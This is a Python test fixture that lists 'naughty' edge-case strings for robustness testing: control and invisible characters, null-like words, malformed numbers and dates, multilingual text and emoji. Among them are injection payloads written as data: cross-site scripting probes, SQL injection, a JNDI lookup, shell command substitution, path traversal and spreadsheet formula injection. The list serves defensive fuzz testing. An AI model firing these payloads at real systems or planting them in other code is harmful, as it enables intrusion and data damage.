"""Which strings have broken readers, stores and screens before? A list of our own."""

from __future__ import annotations

CONTROLS = [chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
SPACES = list("\u00a0\u00ad\u034f\u061c\u1680\u180e\u2000\u2003\u2009\u200a\u200b\u200c\u200d\u200e\u200f")
SPACES += list("\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u202f\u205f\u2060\u2061\u2066\u2067\u2068\u2069\u3000\ufeff")
NONCHARACTERS = ["\ufffe", "\uffff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0001ffff", "\U0010ffff", "\ue000", "\ufffd"]
WORDS = [
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "none", "true", "FALSE",
    "hasOwnProperty",
    "constructor", "__proto__", "__class__", "then", "\\", "\\\\", "\\N", "N/A", "#N/A", "#REF!", "#VALUE!",
    "-",
    "nan", "NaN", "-NaN", "Infinity", "-Infinity", "INF", "1#INF", "1#IND", "0x0", "0xffffffff", "0b1", "0o17",
]  # fmt: skip
NUMBERS = [
    "0", "1", "1.00", "$1.00", "1/2", "1E2", "1E02", "1E+02", "1E999", "-1E999", "1e-999", "-1", "-0", "0.0",
    "0/0",
    "-1/2", "-2147483648/-1", "9223372036854775808", "0.0.0", "0..0", "1,000.00", "1 000.00", "1'000,00",
    "01000",
    "123456789012345678901234567890123456789", "٠١٢٣", "１２３", "Ⅷ", "½", "一千二百", "1e5万", "９９９＋",
    "2025-13-45",
    "1900-01-00", "24:61:61", "0000-00-00", "99999-01-01", "1.2.3.4", "::1", "=1+1", "+1", "@SUM(1)", "45000.5",
]  # fmt: skip
TEXTS = [
    ",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠",
    "⁰⁴⁵₀₁₂",
    "'", '"', "''", '""', "'\"'", '"\'\'\'\'"\'"', '"“”"', "“", "『』", '""""""', '"a', 'a"', 'a"b', '"a"b',
    "'a", "`",
    "田中さんにあげて下さい", "和製漢語", "사회과학원", "찦차를 타고", "𠜎𠜱𠝹𠱓", "㐀䶵𪜀𫝀",
    "表ポあA鷗ŒéＢ", "Ⱥ ⱦ",
    "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "(╯°□°）╯︵ ┻━┻)", "😍", "👩🏽", "👨‍👩‍👧‍👦", "👾 🙇 💁 🙅", "🏳️‍🌈",
    "1️⃣ 2️⃣", "🇨🇳🇹", "✋🏿",
    "الكتاب", "בראשית", "ﷺ", "test\u202egnp.exe", "\u202eتسجيل\u202c 医院", "\u2066医\u2069院",
    "医\u200b院\u200d排\ufeff队",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "医" + "\u0301\u0316\u0360" * 200, "ﬃ ﬀ ĳ ǆ", "İıſK", "𝕋𝕙𝕖",
    "⒯⒣⒠", "ʎlddɐ",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;&amp;&#x27;",
    "javascript:alert(1)", "]]>",
    "<!--", "<![CDATA[", "<svg/onload=alert(1)>", '" onfocus=alert(1) autofocus="', "<html><table><tr><td>1",
    "<?xml v",
    "1;DROP TABLE posts", "1'; DROP TABLE posts-- 1", "' OR 1=1 -- ", "%", "_", "%s%s%s%n", "%d%x", "{0}",
    "{}", "{{7*7}}",
    "${jndi:ldap://x.example/a}", "$HOME", "$(touch /tmp/x)", "`touch /tmp/x`", "| ls", "; ls",
    "../../../etc/passwd",
    "C:\\Windows\\win.ini", "\\\\host\\share", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1.txt", ".", "..", "~",
    "-rf", "--help",
    '=HYPERLINK("http://x.example","点")', "=cmd|' /C calc'!A0", '="p9"', "+86 138", "@某人", "\tA", "A\t",
    "a\nb", "a\r\nb",
    "a\rb", "\n", "a\n\n\nb", "a,b", "a;b", "a|b", "a\tb", "a，b", ",,,,", ";;;;", "||||", "，，，，",
    "a\\", 'a\\"b', "\\n\\t",
    "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "జ్ఞ‌ా", "గ్ల", "ᚠᛇᚻ", "ⲀⲂ", "锟斤拷", "烫烫烫", "ï»¿", "Ã¤",
    "浣犲ソ", "????", "���",
    "//@甲://@乙:", "转发微博", "#话题#", "@甲 @乙", "[doge]", "http://", "https://例子.example/？a=b&c=d",
    "mailto:a@b", "data:,",
]  # fmt: skip
NAUGHTY = [
    *WORDS,
    *NUMBERS,
    *TEXTS,
    *(f"医{mark}院" for mark in (*CONTROLS, *SPACES, *NONCHARACTERS)),
    *CONTROLS,
    *SPACES,
]
SURROGATES = ["医\ud800院", "\udc00", "\udfff\ud800", "a\udbff"]
